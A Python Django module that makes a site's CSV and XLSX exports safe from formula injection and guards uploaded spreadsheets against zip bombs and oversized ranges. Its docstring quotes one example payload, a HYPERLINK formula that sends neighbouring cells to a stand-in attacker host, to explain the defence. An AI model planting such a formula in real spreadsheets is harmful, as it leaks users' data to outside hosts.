"""Cells of the spreadsheets the site produces (CSV, XLSX), made safe to open in Excel or LibreOffice.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by
spreadsheet software when the CSV is opened (« formula injection », OWASP « CSV Injection »): a canteen named
``=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")`` would become a live link that leaks the neighbouring
cells. Every CSV or XLSX the site writes goes through this module:

- ``neutralise(value)`` prefixes such a text with an apostrophe (``'=1+1``), the convention spreadsheet
  software itself uses for « text that looks like a formula »: the text stays readable and is never evaluated.
  Only ``str`` values are touched; numbers (``-5``, ``Decimal("-2.50")``) are data and stay as they are;
- ``csv_row(values)`` applies it to a whole row before ``csv.writer.writerow``;
- ``xlsx_cell(sheet, value)`` gives a write-only cell whose text is always stored as a string (openpyxl turns
  any ``str`` starting with ``=`` into a formula otherwise), neutralised as in the CSV so that a value copied
  from the sheet into another one stays inert;
- ``csv_records(text, delimiter)`` reads an uploaded CSV's records with a cell limit of its own (``CSV_MAX_CELL``);
- ``spreadsheet_response(filename, header, rows, extension)`` is a whole small download (CSV or XLSX built in
  memory) made of such rows: the views of the canteens and territories apps answer with it.

Control characters that are not tab, line feed or carriage return are dropped from text cells: the XML of an
XLSX cannot carry them (openpyxl raises ``IllegalCharacterError``), and an old canteen name with a stray
``\\x0b`` must not turn an export into a 500.
"""

import csv
import io
import re

from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# C0 controls except \t \n \r, DEL and the C1 range: not allowed in XML 1.0 text, meaningless in a cell
ILLEGAL_CHARACTERS_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def neutralise(value):
    """The value a cell may hold safely: a text starting with a formula character gets a leading apostrophe."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_row(values):
    """A row of values ready for ``csv.writer.writerow`` (text cells neutralised, other values untouched)."""
    return [neutralise(value) for value in values]


def xlsx_cell(sheet, value, font=None):
    """A write-only openpyxl cell for ``value``: text is stored as a (neutralised) string, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=neutralise(value))
    if cell.data_type == "f":  # openpyxl guesses a formula from a leading "=": never in our files
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def xlsx_row(sheet, values):
    """A row of ``xlsx_cell`` for ``sheet.append``."""
    return [xlsx_cell(sheet, value) for value in values]


def spreadsheet_response(filename, header, rows, extension):
    """A CSV (UTF-8 with BOM, `;`) or XLSX download of ``header`` then ``rows``, every text cell neutralised."""
    if extension == "csv":
        buffer = io.StringIO()
        buffer.write("\ufeff")
        writer = csv.writer(buffer, delimiter=";")
        writer.writerow(csv_row(header))
        for row in rows:
            writer.writerow(csv_row(row))
        response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
    else:
        from openpyxl import Workbook

        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet()
        sheet.append(xlsx_row(sheet, header))
        for row in rows:
            sheet.append(xlsx_row(sheet, row))
        buffer = io.BytesIO()
        workbook.save(buffer)
        response = HttpResponse(
            buffer.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
    response["Content-Disposition"] = f'attachment; filename="{filename}.{extension}"'
    return response


# --- reading an uploaded XLSX safely ---------------------------------------------------------------------------
#
# An .xlsx is a ZIP of XML files. A few hundred KB can inflate to gigabytes (a sharedStrings.xml of repeated
# strings: openpyxl's read-only mode still loads every shared string, 22 s and 2.7 GB for 698 KB), and a 5 KB
# sheet with one cell at ZZ200000 makes python-calamine allocate the whole dense range (40 s, 4.3 GB). Before
# any XML parser sees the file, `check_xlsx()` reads the archive's directory (declared sizes, compression
# ratios), then inflates each member with a bounded budget, counting each worksheet's rows and cells and its
# furthest cell reference. Only then does `xlsx_rows()` hand the verified copy to python-calamine.

# The longest CSV cell an import reads: csv's own default limit, checked here because that limit is process-wide
# and a library may raise it (frictionless sets 2³¹ when its CSV parser is imported). An unterminated quote
# swallows the rest of the file into one cell: refused, with its line, whatever csv's limit is.
CSV_MAX_CELL = 131_072


class UnreadableCsvLine(ValueError):
    """csv could not read the record starting at `line` (1-based), or one of its cells is over CSV_MAX_CELL."""

    def __init__(self, line):
        super().__init__(line)
        self.line = line


def csv_records(text, delimiter):
    """The records of a decoded CSV text, as lists of strings; raises UnreadableCsvLine."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    line = 1  # where the record being read starts: what the person opening the file looks for
    try:
        for row in reader:
            if any(len(cell) > CSV_MAX_CELL for cell in row):
                raise UnreadableCsvLine(line)
            yield row
            line = reader.line_num + 1
    except csv.Error as error:
        raise UnreadableCsvLine(line) from error


def csv_dict_rows(text, delimiter) -> list[dict]:
    """csv.DictReader's rows, read by `csv_records`: keyed by the header, blank records skipped, a missing cell
    None, extra cells under the key None."""
    records = csv_records(text, delimiter)
    header = next(records, [])
    rows = []
    for record in records:
        if not record:
            continue
        row = dict(zip(header, record, strict=False))
        row.update(dict.fromkeys(header[len(record) :]))
        if len(record) > len(header):
            row[None] = record[len(header) :]
        rows.append(row)
    return rows


XLSX_MAX_UNCOMPRESSED = 64 * 1024 * 1024  # all members, once inflated (50,000 purchase lines: about 20 MB)
XLSX_MAX_RATIO = 200  # inflated / compressed size of one member over 1 MB (real sheets: 5 to 30)
XLSX_MAX_ROWS = 60_000
XLSX_MAX_COLUMNS = 200
XLSX_MAX_CELLS = 3_000_000  # rows × columns of the dense range a reader builds

_CELL_OR_ROW_RE = re.compile(rb"<(?:[A-Za-z_][\w.-]*:)?(row|c)\b([^>]*)>")
_REF_RE = re.compile(rb'\br\s*=\s*["\']([A-Za-z]{0,3})(\d*)["\']')
# The fast path (every cell and row carries its reference, as Excel, LibreOffice and openpyxl write them)
_CELL_REF_RE = re.compile(rb'<c r="([A-Z]{1,3})(\d+)"')
_ROW_REF_RE = re.compile(rb'<row r="(\d+)"')
_CELL_TAG_RE = re.compile(rb"<c[\s>/]")
_ROW_TAG_RE = re.compile(rb"<row[\s>/]")


class SpreadsheetRefused(ValueError):
    """The file is not read; str(error) is the translated message for the person who sent it."""


def _column_number(letters: bytes) -> int:
    number = 0
    for letter in letters.upper():
        number = number * 26 + letter - 64
    return number


def _refused_size():
    from django.utils.translation import gettext as _

    return SpreadsheetRefused(
        _(
            "Ce fichier Excel est trop volumineux une fois décompressé ou anormalement compressé : il n'est pas lu. "
            "Enregistrez-le de nouveau avec Excel ou LibreOffice, ou envoyez-le en CSV."
        )
    )


def _refused_extent():
    from django.utils.translation import gettext as _

    return SpreadsheetRefused(
        _(
            "La feuille dépasse 60 000 lignes ou 200 colonnes (cellules remplies comprises, même loin du tableau) : "
            "supprimez les lignes et colonnes inutiles ou découpez le fichier."
        )
    )


def _unreadable():
    from django.utils.translation import gettext as _

    return SpreadsheetRefused(_("Ce fichier Excel ne peut pas être lu : enregistrez-le au format .xlsx."))


class _SheetScanner:
    """Bounds one worksheet's extent from its XML, fed chunk by chunk (cells with or without a reference)."""

    def __init__(self):
        self.row = self.column = self.max_column = self.cells = self.rows = 0
        self.tail = b""
        self.fast = True

    def _scan_fast(self, data, end):
        """Whole-chunk regular expressions when every cell and row has its reference; False otherwise."""
        chunk = data[:end]
        if b":c" in chunk or b":row" in chunk:  # prefixed tags (or such text): the exact scan
            return False
        cells, rows = _CELL_REF_RE.findall(chunk), _ROW_REF_RE.findall(chunk)
        # every tag, whatever follows its name (a tab, a line feed...), must be one the references were read from
        if len(cells) != len(_CELL_TAG_RE.findall(chunk)) or len(rows) != len(_ROW_TAG_RE.findall(chunk)):
            return False
        self.cells += len(cells)
        self.rows += len(rows)
        if cells:
            columns, numbers = zip(*cells, strict=True)
            self.max_column = max(self.max_column, *map(_column_number, set(columns)))
            self.row = max(self.row, *map(int, set(numbers)))
            self.column = _column_number(cells[-1][0])
        if rows:
            self.row = max(self.row, *map(int, rows))
        return True

    def _scan(self, data, end):
        if self.fast:
            self.fast = self._scan_fast(data, end)
            if self.fast:
                if self.row > XLSX_MAX_ROWS or self.max_column > XLSX_MAX_COLUMNS or self.cells > XLSX_MAX_CELLS:
                    raise _refused_extent()
                return
        for match in _CELL_OR_ROW_RE.finditer(data, 0, end):
            ref = _REF_RE.search(match.group(2))
            if match.group(1) == b"row":
                self.rows += 1
                self.row = int(ref.group(2)) if ref and ref.group(2) else self.row + 1
                self.column = 0
            else:
                self.cells += 1
                self.column = _column_number(ref.group(1)) if ref and ref.group(1) else self.column + 1
                if ref and ref.group(2):
                    self.row = max(self.row, int(ref.group(2)))
                self.max_column = max(self.max_column, self.column)
            if self.row > XLSX_MAX_ROWS or self.max_column > XLSX_MAX_COLUMNS or self.cells > XLSX_MAX_CELLS:
                raise _refused_extent()

    def feed(self, chunk):
        data = self.tail + chunk
        cut = data.rfind(b"<")  # a tag may straddle two chunks: scan up to the last "<", keep the rest
        cut = cut if cut > 0 else len(data)
        self._scan(data, cut)
        self.tail = data[cut:]
        if len(self.tail) > 64 * 1024:  # no tag is that long
            raise _unreadable()

    def close(self):
        self._scan(self.tail, len(self.tail))
        if max(self.row, self.rows) * max(self.max_column, 1) > XLSX_MAX_CELLS:
            raise _refused_extent()


def check_xlsx(fileobj):
    """A verified copy of the XLSX `fileobj` (binary, seekable), safe to hand to a parser, or SpreadsheetRefused.

    The archive's directory is checked first (declared sizes, compression ratios: a bomb is refused before
    anything is inflated). Then every member is inflated by zipfile, which stops at the declared size and checks
    the CRC, within XLSX_MAX_UNCOMPRESSED in all, the worksheets' extent being bounded on the way; the returned
    archive (stored, not compressed) holds exactly those verified bytes, so a member whose deflate stream goes
    on past its declared size cannot reach the parser either.
    """
    import io
    import zipfile

    fileobj.seek(0)
    verified = io.BytesIO()
    try:
        archive = zipfile.ZipFile(fileobj)
        members = archive.infolist()
        if sum(info.file_size for info in members) > XLSX_MAX_UNCOMPRESSED:
            raise _refused_size()
        for info in members:
            if info.file_size > 1024 * 1024 and info.file_size > XLSX_MAX_RATIO * max(info.compress_size, 1):
                raise _refused_size()
        budget = XLSX_MAX_UNCOMPRESSED
        with zipfile.ZipFile(verified, "w", zipfile.ZIP_STORED) as copy:
            for info in members:
                if info.is_dir():
                    continue
                scanner = _SheetScanner() if info.filename.startswith("xl/worksheets/") else None
                parts = []
                with archive.open(info) as member:
                    while chunk := member.read(1024 * 1024):
                        budget -= len(chunk)
                        if budget < 0:
                            raise _refused_size()
                        if scanner is not None:
                            scanner.feed(chunk)
                        parts.append(chunk)
                if scanner is not None:
                    scanner.close()
                copy.writestr(info.filename, b"".join(parts))
    except SpreadsheetRefused:
        raise
    except (zipfile.BadZipFile, zipfile.LargeZipFile, NotImplementedError, EOFError, OSError, ValueError) as error:
        raise _unreadable() from error
    finally:
        fileobj.seek(0)
    verified.seek(0)
    return verified


def xlsx_rows(fileobj, max_columns=XLSX_MAX_COLUMNS):
    """The first sheet's rows (lists of str, float, int, bool, date, datetime; "" for an empty cell), read with
    python-calamine once `check_xlsx()` passed. Raises SpreadsheetRefused (French message) for a refused or
    unreadable file, before any large allocation."""
    from python_calamine import CalamineWorkbook

    verified = check_xlsx(fileobj)
    try:
        sheet = CalamineWorkbook.from_filelike(verified).get_sheet_by_index(0)
        rows = sheet.to_python(skip_empty_area=False)
    except Exception as error:  # calamine raises several kinds of errors on a broken file
        raise _unreadable() from error
    for row in rows:
        yield list(row[:max_columns])
